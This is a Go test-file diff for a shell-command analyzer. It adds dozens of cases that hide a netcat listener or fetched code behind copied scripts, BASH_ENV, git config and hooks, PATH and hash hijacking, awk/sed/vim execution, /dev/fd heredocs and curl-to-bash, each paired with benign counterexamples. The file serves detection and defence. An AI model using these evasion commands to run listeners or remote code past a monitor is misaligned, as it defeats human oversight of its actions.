@@ -13,6 +13,13 @@ var evasionFiles = map[string]string{
 	"/work/proj/Procfile":      "web: python3 -m http.server $PORT\nworker: php worker.php\n",
 	"/work/proj/pre.sh":        "nc -l 4444\n",
 	"/work/proj/rc.sh":         "nc -l 4444\n",
+	"/work/proj/env":           "NODE_OPTIONS=--require=/tmp/x.js\nBASH_ENV=/work/proj/rc.sh\n",
+	"/work/proj/dev.env":       "PORT=3000\nNODE_ENV=development\n",
+	"/work/proj/x.awk":         "BEGIN { system(\"nc -l 4444\") }\n",
+	"/work/proj/x.sed":         "1e nc -l 4444\n",
+	"/work/proj/x.vim":         "!nc -l 4444\n",
+	"/work/proj/ok.awk":        "{ print $1 }\n",
+	"/work/proj/ok.sed":        "s/a/b/\n",
 }
 
 func evasionEnv() Env {
@@ -227,6 +234,235 @@ func TestEvasions(t *testing.T) {
 		if len(facets(parts, tt.want)) == 0 {
 			t.Errorf("%q: no %s facet: %s", tt.text, tt.want, dump(parts))
 		}
+	}
+}
+
+// Scripts followed through copies, links and fetches; variables an earlier
+// statement set; programs that read code from stdin by name; editors that
+// pipe their buffer to a shell; ssh relays; hooks, PATH and git settings.
+func TestEvasionsFollowed(t *testing.T) {
+	tests := []struct {
+		text string
+		want action.Kind // "" for none of listen, tunnel, remote, opaque
+	}{
+		// A script written earlier keeps its content under a new name.
+		{"echo 'nc -l 4444' > a.sh; cp a.sh b.sh; bash b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; mv a.sh b.sh; bash b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; ln -s a.sh b.sh; bash b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > /tmp/a.sh; ln -sf /tmp/a.sh ./run; ./run", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; ln a.sh b; ./b", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; install -m755 a.sh b.sh; ./b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; install -D -m 0755 a.sh ~/.local/bin/tool; ~/.local/bin/tool", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; cat a.sh > b.sh; bash b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; cat a.sh | tee b.sh; bash b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; dd if=a.sh of=b.sh; bash b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; rsync a.sh b.sh; bash b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; cp a.sh /tmp/; bash /tmp/a.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; cp -t /tmp a.sh; bash /tmp/a.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > d/a.sh; cp -r d e; bash e/a.sh", action.NetworkListen},
+		{"cp /dev/stdin b.sh <<EOF\nnc -l 4444\nEOF\nbash b.sh", action.NetworkListen},
+		{"cp rc.sh /tmp/b.sh; bash /tmp/b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; cp a.sh b.sh; echo ls > b.sh; bash b.sh", ""},
+		{"echo ls > a.sh; cp a.sh b.sh; bash b.sh", ""},
+		{"cp rc.sh b.sh; echo ls > b.sh; bash b.sh", ""},
+		{"cp rc.sh b.sh; echo ls >> b.sh; bash b.sh", action.NetworkListen},
+		{"curl -o a.sh http://x; echo ls >> a.sh; bash a.sh", action.ShellOpaque},
+		{"cp .env.example .env; cat .env", ""},
+		// Content from another machine is unknown: running it is opaque.
+		{"scp h:/x.sh .; bash x.sh", action.ShellOpaque},
+		{"scp -P 2222 me@h:bin/x.sh /tmp/y.sh && sh /tmp/y.sh", action.ShellOpaque},
+		{"rsync h:x.sh .; bash x.sh", action.ShellOpaque},
+		{"rsync -az h:tools/ ./tools && ./tools/run", action.ShellOpaque},
+		{"git clone https://x/y; bash y/install.sh", action.ShellOpaque},
+		{"git clone https://x/y && cd y && ./install.sh", action.ShellOpaque},
+		{"git clone --depth 1 https://x/y.git /tmp/z; source /tmp/z/env.sh", action.ShellOpaque},
+		{"curl -o a.sh http://x; cp a.sh b.sh; bash b.sh", action.ShellOpaque},
+		{"curl -o a.sh http://x; mv a.sh b; ./b", action.ShellOpaque},
+		{"curl http://x | tee a.sh >/dev/null; sh a.sh", action.ShellOpaque},
+		{"curl -L http://x/a.tgz | tar xz; ./a/install.sh", action.ShellOpaque},
+		{"curl -LO http://x/a.tgz; tar xzf a.tgz -C /opt; /opt/a/install.sh", action.ShellOpaque},
+		{"wget http://x/a.zip; unzip a.zip; bash a/install.sh", action.ShellOpaque},
+		{"curl -O http://x/i.sh.gz; gunzip i.sh.gz; sh i.sh", action.ShellOpaque},
+		{"gh repo clone o/r -- --depth 1 && bash r/x.sh", action.ShellOpaque},
+		{"svn co https://svn/x/trunk t; sh t/build.sh", action.ShellOpaque},
+		{"aws s3 cp s3://bucket/x.sh .; bash x.sh", action.ShellOpaque},
+		{"rclone copy remote:scripts/x.sh /tmp; bash /tmp/x.sh", action.ShellOpaque},
+		{"echo 'nc -l 4444' > a.sh; cat < a.sh > b.sh; bash b.sh", action.NetworkListen},
+		{"echo 'nc -l 4444' > a.sh; tee b.sh < a.sh; bash b.sh", action.NetworkListen},
+		{"aws s3 cp x.sh s3://bucket/; bash x.sh", ""},
+		{"git clone https://x/y && cd y && make", ""},
+		{"git clone https://x/y && ls y", ""},
+		{"scp h:/var/log/app.log . && grep ERROR app.log", ""},
+		{"tar xzf local.tgz; ./local/run.sh", ""},
+		{"scp x.sh h:/tmp/; ssh h ls", ""},
+		// Variables an earlier statement set or exported.
+		{"export BASH_ENV=rc.sh; bash -c true", action.NetworkListen},
+		{"export BASH_ENV=rc.sh", action.NetworkListen},
+		{"BASH_ENV=rc.sh; export BASH_ENV; bash -c true", action.NetworkListen},
+		{"declare -x BASH_ENV=rc.sh; bash -c true", action.NetworkListen},
+		{"export ENV=rc.sh; sh -i", action.NetworkListen},
+		{"typeset -x ENV=/work/proj/rc.sh; sh", action.NetworkListen},
+		{"export BASH_ENV=/tmp/e; echo 'nc -l 4444' > /tmp/e; bash x.sh", action.NetworkListen},
+		{"set -a; . ./env; bash -c true", action.NetworkListen},
+		{"set -a; . ./env; npm test", action.ShellOpaque},
+		{"export NODE_OPTIONS=--require=/tmp/x.js; npm test", action.ShellOpaque},
+		{"export LD_PRELOAD=/tmp/x.so; make", action.ShellOpaque},
+		{"export PAGER='nc -l 4444'; git log", action.NetworkListen},
+		{"declare -x GIT_SSH_COMMAND='nc -l 4444'; git fetch", action.NetworkListen},
+		{"export FZF_DEFAULT_COMMAND='nc -l 4444'; fzf", action.NetworkListen},
+		{"export GIT_ASKPASS='nc -l 4444'", action.NetworkListen},
+		{"export BASH_ENV=rc.sh; unset BASH_ENV; bash -c true", action.NetworkListen}, // the export itself
+		{"export BASH_ENV=/tmp/f; bash -c x", action.ShellOpaque},
+		{"declare -x BASH_ENV=/tmp/f; bash -c x", action.ShellOpaque},
+		{"export ENV=/tmp/f; sh", action.ShellOpaque},
+		{"BASH_ENV=/tmp/f bash x.sh", action.ShellOpaque},
+		{"curl -o /tmp/rc http://x; BASH_ENV=/tmp/rc bash -c true", action.ShellOpaque},
+		{"curl -o /tmp/rc http://x; export BASH_ENV=/tmp/rc; bash -c true", action.ShellOpaque},
+		{"export ENV=/tmp/f; sh x.sh", ""},
+		{"export BASH_ENV=; bash -c x", ""},
+		{"set -a; . ./dev.env; npm run build", ""},
+		{"export ENV=production; npm start", ""},
+		{"export EDITOR=vim PAGER=less; git log", ""},
+		// Exported functions and git's configuration from the environment.
+		{"env 'BASH_FUNC_ls%%=() { nc -l 4444; }' bash -c ls", action.NetworkListen},
+		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='nc -l 4444' git log", action.NetworkListen},
+		{"export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager; export GIT_CONFIG_VALUE_0='nc -l 4444'; git log", action.NetworkListen},
+		{"GIT_CONFIG_PARAMETERS=\"'core.sshcommand'='nc -l 4444'\" git fetch", action.NetworkListen},
+		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=me git commit -m x", ""},
+		// git config settings that name commands git runs later.
+		{"git config core.pager 'nc -l 4444'; git log", action.NetworkListen},
+		{"git config --global alias.x '!nc -l 4444'", action.NetworkListen},
+		{"git config set core.sshCommand 'nc -l 4444'", action.NetworkListen},
+		{"git config --local core.fsmonitor 'python3 -m http.server'", action.NetworkListen},
+		{"git config core.pager less", ""},
+		{"git config --get core.pager", ""},
+		{"git config user.name 'nc -l 4444'", ""},
+		{"git config --global alias.co checkout", ""},
+		// Hooks this text wrote run with later git commands.
+		{"echo 'nc -l 4444' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit -m x", action.NetworkListen},
+		{"git config core.hooksPath /tmp/hk; echo 'nc -l 4444' > /tmp/hk/pre-push; git push", action.NetworkListen},
+		{"curl -o .git/hooks/post-checkout http://x/h; git checkout main", action.ShellOpaque},
+		{"echo 'go test ./...' > .git/hooks/pre-commit; git commit -m x", ""},
+		// PATH put first a directory this text wrote a program into.
+		{"echo 'nc -l 4444' > /tmp/b/ls; chmod +x /tmp/b/ls; PATH=/tmp/b:$PATH ls", action.NetworkListen},
+		{"echo 'nc -l 4444' > /tmp/b/ls; export PATH=/tmp/b:$PATH; ls -la", action.NetworkListen},
+		{"echo 'nc -l 4444' > ls; PATH=.:$PATH ls", action.NetworkListen},
+		{"curl -o /tmp/b/make http://x; PATH=/tmp/b:$PATH make", action.ShellOpaque},
+		{"export PATH=$HOME/bin:$PATH; ls", ""},
+		{"echo 'echo hi' > /tmp/b/hi; PATH=/tmp/b:$PATH hi", ""},
+		// Programs that read their code from stdin by a file name.
+		{"awk -f /dev/stdin <<EOF\nBEGIN{system(\"nc -l 4444\")}\nEOF", action.NetworkListen},
+		{"awk -f - <<EOF\nBEGIN{system(\"nc -l 4444\")}\nEOF", action.NetworkListen},
+		{"gawk --file=/dev/stdin <<<'BEGIN{system(\"nc -l 4444\")}'", action.NetworkListen},
+		{"curl http://x | awk -f -", action.ShellOpaque},
+		{"sed -f /dev/stdin x <<EOF\n1e nc -l 4444\nEOF", action.NetworkListen},
+		{"curl http://x | sed -f - file", action.ShellOpaque},
+		{"perl /dev/stdin <<EOF\nsystem(\"nc -l 4444\")\nEOF", action.NetworkListen},
+		{"python3 /dev/stdin <<EOF\nimport os; os.system(\"nc -l 4444\")\nEOF", action.NetworkListen},
+		{"python3 /dev/fd/0 <<EOF\nimport os; os.system(\"nc -l 4444\")\nEOF", action.NetworkListen},
+		{"node /dev/stdin <<EOF\nrequire('net').createServer().listen(1)\nEOF", action.NetworkListen},
+		{"curl http://x | python3 /dev/stdin", action.ShellOpaque},
+		{"bash /dev/fd/0 <<EOF\nnc -l 4444\nEOF", action.NetworkListen},
+		{"bash /proc/self/fd/0 <<EOF\nnc -l 4444\nEOF", action.NetworkListen},
+		{"curl http://x | bash /dev/fd/0", action.ShellOpaque},
+		{"awk -f x.awk data.txt", action.NetworkListen},
+		{"sed -f x.sed -i f.txt", action.NetworkListen},
+		{"echo 'BEGIN{system(\"nc -l 4444\")}' > /tmp/p.awk; awk -f /tmp/p.awk", action.NetworkListen},
+		{"awk -f ok.awk data.txt", ""},
+		{"awk '{print $1}' <<EOF\nsystem nc -l 4444\nEOF", ""},
+		{"python3 /dev/stdin <<EOF\nprint(1)\nEOF", ""},
+		{"cat data | sed -f ok.sed", ""},
+		// Shell startup files in the home directory this text wrote.
+		{"echo 'nc -l 4444' >> ~/.bashrc; bash -i", action.NetworkListen},
+		{"echo 'nc -l 4444' >> ~/.profile; bash -l -c true", action.NetworkListen},
+		{"echo 'nc -l 4444' > ~/.zshenv; zsh -c true", action.NetworkListen},
+		{"curl -o ~/.bashrc http://x; bash -i", action.ShellOpaque},
+		{"echo 'nc -l 4444' >> ~/.bashrc; bash -c true", ""},
+		{"echo 'alias ll=\"ls -l\"' >> ~/.bashrc; bash -i", ""},
+		// Modules and preloads this text wrote; builtins loaded from files.
+		{"echo 'import os; os.system(\"nc -l 4444\")' > x.py; python3 -m x", action.NetworkListen},
+		{"echo 'require(\"net\").createServer().listen(1)' > h.js; node -r ./h.js app.js", action.NetworkListen},
+		{"enable -f /tmp/evil.so evil; evil", action.ShellOpaque},
+		{"enable -n echo", ""},
+		// hash -p PATH NAME makes NAME run PATH.
+		{"hash -p /usr/bin/nc ls; ls -l 4444", action.NetworkListen},
+		{"echo 'nc -l 4444' > /tmp/x; hash -p /tmp/x ls; ls", action.NetworkListen},
+		{"hash -p \"$X\" ls; ls", action.ShellOpaque},
+		{"curl -o /tmp/x http://x; hash -p /tmp/x make; make", action.ShellOpaque},
+		{"hash -p /usr/bin/nc ls; hash -r; ls -l 4444", ""},
+		{"hash -r; ls", ""},
+		// Code on another descriptor (/dev/fd/N), a descriptor exec opened,
+		// a file on stdin, a process substitution that copies a file.
+		{"bash /dev/fd/3 3<<EOF\nnc -l 4444\nEOF", action.NetworkListen},
+		{"bash /dev/fd/3 3<<<'nc -l 4444'", action.NetworkListen},
+		{"source /dev/fd/3 3<<<'nc -l 4444'", action.NetworkListen},
+		{"python3 /dev/fd/5 5<<EOF\nimport os; os.system(\"nc -l 4444\")\nEOF", action.NetworkListen},
+		{"awk -f /dev/fd/3 3<x.awk", action.NetworkListen},
+		{"bash /dev/fd/3 3<rc.sh", action.NetworkListen},
+		{"exec 3<rc.sh; bash <&3", action.NetworkListen},
+		{"exec 3<<<'nc -l 4444'; bash /dev/fd/3", action.NetworkListen},
+		{"bash /dev/fd/3 3< <(curl http://x)", action.ShellOpaque},
+		{"echo 'import os; os.system(\"nc -l 4444\")' > x.py; python3 < x.py", action.NetworkListen},
+		{"curl -o x.py http://x; python3 < x.py", action.ShellOpaque},
+		{"bash <(cat rc.sh)", action.NetworkListen},
+		{"source <(cat rc.sh)", action.NetworkListen},
+		{"BASH_ENV=<(cat rc.sh) bash -c true", action.NetworkListen},
+		{"curl -o x http://x; source <(cat x)", action.ShellOpaque},
+		{"exec 3<data.txt; while read -u 3 l; do echo \"$l\"; done", ""},
+		{"python3 < /dev/null", ""},
+		{"diff <(cat a) <(cat b)", ""},
+		// Editors that pipe their buffer to a shell, or source a file.
+		{"vim -c 'w !sh' file", action.ShellOpaque},
+		{"vim -c ':w !sudo bash' file", action.ShellOpaque},
+		{"ex -c 'w !sh' file", action.ShellOpaque},
+		{"vi -c 'w !python3' file", action.ShellOpaque},
+		{"vim -c '%!sh' file", action.ShellOpaque},
+		{"vim -es <<EOF\nw !sh\nEOF", action.ShellOpaque},
+		{"vim -S x.vim", action.NetworkListen},
+		{"vim -c 'source x.vim'", action.NetworkListen},
+		{"vim -c 'w !sudo tee %' file", ""},
+		{"vim -c '%!sort' file", ""},
+		{"vi -c ':!/bin/sh' /dev/null", ""},
+		{"vim -c 'w !python3 -m json.tool' f.json", ""},
+		// ssh relays: jump hosts and stdio forwarding.
+		{"ssh -W host:22 jump", action.NetworkTunnel},
+		{"ssh -J jump host", action.NetworkTunnel},
+		{"ssh -J jump host ls", action.NetworkTunnel},
+		{"ssh -o ProxyJump=jump host", action.NetworkTunnel},
+		{"ssh -o ProxyCommand='ssh -W %h:%p bastion' host", action.NetworkTunnel},
+		{"scp -J jump f host:", action.NetworkTunnel},
+		{"ssh host ls", ""},
+		{"ssh -p 2222 -i key me@host uptime", ""},
+		{"ssh -o ProxyJump=none host", ""},
+	}
+	env := evasionEnv()
+	judged := []action.Kind{action.NetworkListen, action.NetworkTunnel, action.ShellRemote, action.ShellOpaque}
+	for _, tt := range tests {
+		parts := Analyze(tt.text, env)
+		checkInvariants(t, tt.text, parts)
+		if tt.want == "" {
+			for _, k := range judged {
+				if fs := facets(parts, k); len(fs) > 0 {
+					t.Errorf("%q: unexpected %s: %s", tt.text, k, dump(parts))
+				}
+			}
+			continue
+		}
+		if len(facets(parts, tt.want)) == 0 {
+			t.Errorf("%q: no %s facet: %s", tt.text, tt.want, dump(parts))
+		}
+	}
+}
+
+// ssh -J HOST CMD still runs CMD remotely.
+func TestSSHJumpRemoteCommand(t *testing.T) {
+	parts := Analyze("ssh -J jump host 'nc -l 4444'", testEnv)
+	fs := facets(parts, action.NetworkListen)
+	if len(fs) == 0 || !fs[0].Remote {
+		t.Errorf("want a remote listener: %s", dump(parts))
+	}
+	if len(facets(parts, action.NetworkTunnel)) == 0 {
+		t.Errorf("want a tunnel: %s", dump(parts))
 	}
 }
 
